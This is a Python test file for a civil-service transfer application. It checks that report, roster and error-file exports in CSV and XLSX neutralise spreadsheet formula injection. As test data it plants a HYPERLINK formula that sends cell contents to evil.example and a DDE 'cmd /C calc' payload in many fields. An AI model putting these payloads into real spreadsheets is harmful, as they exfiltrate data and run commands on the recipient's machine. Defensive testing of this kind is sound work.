"""Nothing executable leaves in a file: hostile text in every text field of the domain, then every
report in CSV and XLSX, the roster files and the import's error file are checked for formula cells."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from application.context import Actor
from application.roster.files import read_roster, write_roster
from application.roster.importer import RosterImport
from application.spreadsheet import FORMULA_TRIGGERS, neutralised, xlsx_row
from domain.proposal import EvaluationFindings, Override
from domain.vocabulary import (
    DevelopmentActivity,
    Expectation,
    PositionType,
    Potential,
    Predikat,
    Rank,
    TransferKind,
)
from projections.export import render
from projections.queries import Stamp
from projections.reports import Report, Section
from tests import scenario as sc
from tests.api.support import running_api
from tests.projections.conftest import Views
from tests.roster.support import error_lines, holders, roster_rows

AGENCY = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
OPERATOR = Actor("=cmd|' /C calc'!A0", agencies=(AGENCY,))
COMMITTEE = Actor("+ketua", nip="197001011995031001", agencies=(AGENCY,))
PPK = Actor("@walikota", agencies=(AGENCY,))
EVALUATOR = Actor("-kepala", agencies=(AGENCY,))


def hostile(field: str) -> str:
    """A formula-leading text for `field`, each trigger in turn (a bell too: XLSX cannot carry it)."""
    trigger = "=+-@"[sum(map(ord, field)) % 4]
    return f"{trigger}SUM(1+1)*cmd|' /C calc'!A0 {field}\a"


def register(app, clock) -> dict[str, object]:
    """A round walked through proposal, override, rejection, withdrawal, announcement, decree,
    execution and evaluation, with hostile text in every text field it records."""

    def position(title: str, unit: str, formasi: int):
        return app.establish_position(
            OPERATOR,
            AGENCY,
            hostile(unit),
            hostile(title),
            PositionType.FUNGSIONAL_AHLI_PERTAMA,
            Rank.III_A,
            Rank.III_D,
            formasi,
            sc.STANDARD,
        ).aggregate_id

    def employee(seq: int, position_id, scores=sc.GOOD_SCORES):
        employee_id = app.register_employee(OPERATOR, sc.nip(seq), hostile(f"name {seq}"), Rank.III_B).aggregate_id
        app.place_employee(OPERATOR, employee_id, position_id, date(2020, 1, 2), hostile(f"placement {seq}"))
        app.assess_competency(
            OPERATOR, employee_id, scores, Potential.HIGH, hostile("assessor"), hostile("method"), date(2025, 6, 1)
        )
        for year in (2024, 2025):
            app.rate_performance(OPERATOR, employee_id, year, Expectation.AS_EXPECTED, Expectation.AS_EXPECTED)
        return employee_id

    origin, target = position("origin", "unit a", 5), position("target", "unit b", 2)
    other = position("other", "unit b", 1)
    people = [employee(seq, origin) for seq in range(1, 4)]
    weak = employee(4, origin, {"integritas": 2, "kerjasama": 2, "keuangan_daerah": 2})
    round_id = app.open_round(
        OPERATOR,
        AGENCY,
        TransferKind.WITHIN_AGENCY,
        hostile("round"),
        date(2026, 1, 1),
        date(2026, 6, 30),
        date(2026, 3, 1),
        (),
    ).aggregate_id
    approved = app.propose(OPERATOR, round_id, people[0], target, hostile("reason")).proposal_id
    app.recommend(COMMITTEE, round_id, approved, True, hostile("recommendation"))
    app.decide(PPK, round_id, approved, True, hostile("decision"))
    overridden = app.propose(OPERATOR, round_id, weak, other, hostile("reason weak")).proposal_id
    app.recommend(COMMITTEE, round_id, overridden, True, hostile("recommendation weak"))
    app.decide(
        PPK,
        round_id,
        overridden,
        True,
        hostile("decision weak"),
        overrides=(Override("competency_fit", hostile("justification"), COMMITTEE.official),),
    )
    rejected = app.propose(OPERATOR, round_id, people[1], target, hostile("reason rejected")).proposal_id
    app.recommend(COMMITTEE, round_id, rejected, False, hostile("against"))
    app.decide(PPK, round_id, rejected, False, hostile("rejection"))
    withdrawn = app.propose(OPERATOR, round_id, people[2], target, hostile("reason withdrawn")).proposal_id
    app.withdraw(OPERATOR, round_id, withdrawn, hostile("withdrawal"))
    app.announce(PPK, round_id, date(2026, 3, 1))
    clock.today = date(2026, 3, 16)  # past the objection window
    for number, proposal_id in enumerate((approved, overridden), start=1):
        app.issue_decree(PPK, round_id, proposal_id, hostile(f"decree {number}"), clock.today, clock.today)
        app.execute_transfer(OPERATOR, round_id, proposal_id)
    clock.today = date(2026, 6, 17)
    app.evaluate_transfer(
        EVALUATOR,
        round_id,
        overridden,
        EvaluationFindings(
            3,
            date(2026, 6, 16),
            Predikat.BUTUH_PERBAIKAN,
            Expectation.BELOW,
            Expectation.AS_EXPECTED,
            hostile("notes"),
            hostile("corrective action"),
        ),
    )
    plan = app.plan_development(
        OPERATOR, weak, DevelopmentActivity.TRAINING, hostile("development"), "keuangan_daerah", 24, date(2026, 9, 30)
    ).plan_id
    app.complete_development(OPERATOR, weak, plan, date(2026, 6, 1), 16)
    return {"round": round_id, "employee": weak, "position": other}


def formula_cells_in_xlsx(content: bytes) -> list[str]:
    """Cells that are formulas, or formula-like text without the quote prefix, as `sheet!A1`."""
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    cell.data_type == "s" and str(cell.value)[:1] in FORMULA_TRIGGERS and not cell.quotePrefix
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}")
    return found


def formula_cells_in_csv(text: str) -> list[str]:
    """Cells that begin with a formula trigger and are not a number."""
    found = []
    for line, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for cell in row:
            if cell[:1] in FORMULA_TRIGGERS:
                try:
                    float(cell)
                except ValueError:
                    found.append(f"line {line}: {cell[:40]!r}")
    return found


def texts_in_xlsx(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


def test_every_report_in_csv_and_xlsx_carries_hostile_text_as_text(app, clock, views: Views) -> None:
    ids = register(app, clock)
    views.catch_up()
    reports = views.reports
    every = {
        "placements": reports.employee_placements(ids["employee"]),
        "holders": reports.position_holders(ids["position"]),
        "staffing": reports.staffing(),
        "board": reports.round_board(ids["round"]),
        "transparency": reports.transparency(),
        "accountability": reports.accountability(),
        "evaluation": reports.evaluation(date(2026, 10, 1)),
        "talent": reports.talent(2026),
        "merit": reports.merit(),
        "staffing of the agency": reports.staffing(agency=AGENCY),
    }
    seen: set[str] = set()
    for name, report in every.items():
        assert sum(len(s.rows) for s in report.sections), f"{name} is empty: it proves nothing"
        as_csv = render(report, "csv").decode()
        assert formula_cells_in_csv(as_csv) == [], name
        as_xlsx = render(report, "xlsx")
        assert formula_cells_in_xlsx(as_xlsx) == [], name
        seen |= {text for text in texts_in_xlsx(as_xlsx) if text[:1] in FORMULA_TRIGGERS}
        assert AGENCY not in as_csv or f"'{AGENCY}" in as_csv or f"\"'{AGENCY}" in as_csv.replace('""', '"')
    fields = {
        "unit a",
        "target",
        "name 1",
        "placement 1",
        "reason",
        "recommendation",
        "decision",
        "justification",
        "rejection",
        "withdrawal",
        "decree 1",
        "notes",
        "corrective action",
        "development",
        "round",
    }
    shown = {field for field in fields if any(text.endswith(f" {field}\ufffd") for text in seen)}
    assert AGENCY in seen and "=cmd|' /C calc'!A0" in seen
    assert len(shown) >= 10, sorted(fields - shown)  # most text fields appear in some report


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text() -> None:
    stamp = Stamp(view="v", position=1, as_of=None)
    report = Report(
        report="r",
        title="t",
        stamp=stamp,
        generated_at=date(2026, 1, 1).isoformat() + "T00:00:00",
        parameters={"agency": "=1+1,=2+2\n=3"},
        sections=[
            Section(name="s", columns=["n", "t", "tab", "cr"], rows=[{"n": -3, "t": "-3", "tab": "\t=1", "cr": "\r=1"}])
        ],
    )
    text = render(report, "csv").decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert ["-3", "'-3", "'\t=1", "'\r=1"] in rows
    assert not any(cell.startswith("#") or "=2+2" in cell for row in rows for cell in row)  # one table only
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    about = {row[0]: row[1] for row in book["tentang"].iter_rows(min_row=2, values_only=True) if row}
    assert about["Parameter agency"] == "=1+1,=2+2\n=3"  # the parameter stays inside its one cell, as text
    parameter = next(c for (k, c) in book["tentang"].iter_rows(min_row=2, max_col=2) if k.value == "Parameter agency")
    assert (parameter.data_type, parameter.quotePrefix) == ("s", True)
    number, looks_like_one, *_ = book["s"][2]
    assert (number.value, number.data_type) == (-3, "n")
    assert (looks_like_one.value, looks_like_one.data_type, looks_like_one.quotePrefix) == ("-3", "s", True)
    assert formula_cells_in_xlsx(render(report, "xlsx")) == []


@pytest.mark.parametrize("write_only", [False, True])
def test_openpyxl_stores_formula_like_text_as_a_string_cell(write_only) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, ["=1+1", 5, "plain", None, "@A1"]))
    out = io.BytesIO()
    book.save(out)
    assert formula_cells_in_xlsx(out.getvalue()) == []
    assert [c.value for c in load_workbook(out).worksheets[0][1]] == ["=1+1", 5, "plain", None, "@A1"]
    assert neutralised("=1+1") == "'=1+1" and neutralised(-1) == -1 and neutralised("a-b") == "a-b"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_roster_files_and_the_error_file_carry_no_formula(app, tmp_path: Path, suffix) -> None:
    rows = roster_rows(employees=6)
    people = holders(rows)
    people[0]["NAMA"] = '=HYPERLINK("http://evil.example","Klik")'
    people[1]["NOMOR_SK_JABATAN"] = "+1+1"
    people[2]["NIP"] = "@SUM(1)"  # a bad row: its value goes to the error file
    people[3]["ASESOR"] = "-2+3"
    path = tmp_path / f"roster.{suffix}"
    write_roster(rows, path)
    content = path.read_bytes()
    if suffix == "csv":
        assert formula_cells_in_csv(content.decode()) == []
    else:
        assert formula_cells_in_xlsx(content) == []
    read = {
        (r.values["NIP"], r.values["NAMA"], r.values["NOMOR_SK_JABATAN"], r.values["ASESOR"])
        for r in read_roster(path)
        if r.values["NIP"]
    }
    assert read >= {(p["NIP"], p["NAMA"], p["NOMOR_SK_JABATAN"], p.get("ASESOR")) for p in people[:4]}  # as written

    RosterImport(app).run(path, tmp_path / "errors.csv")
    errors = (tmp_path / "errors.csv").read_text(encoding="utf-8")
    assert formula_cells_in_csv(errors) == []
    assert [e["value"] for e in error_lines(tmp_path / "errors.csv")] == ["'@SUM(1)"]
    assert app.find_employee_by_nip(people[0]["NIP"]).name == people[0]["NAMA"]


def test_a_hostile_query_parameter_is_not_reflected_as_a_formula(settings, views: Views) -> None:
    agency = '=1+1,=HYPERLINK("http://evil.example","Klik")'  # the public report takes any agency
    views.catch_up()
    with running_api(settings) as api:
        for fmt in ("csv", "xlsx"):
            response = api.client.get("/public/reports/transparency", params={"agency": agency, "format": fmt})
            assert response.status_code == 200, response.text
            if fmt == "csv":
                assert formula_cells_in_csv(response.text) == []
                assert "HYPERLINK" not in response.text  # the CSV is one table: parameters are not echoed
            else:
                assert formula_cells_in_xlsx(response.content) == []
                about = load_workbook(io.BytesIO(response.content))["tentang"]
                assert ["Parameter agency", agency] in [[c.value for c in row] for row in about.iter_rows(max_col=2)]
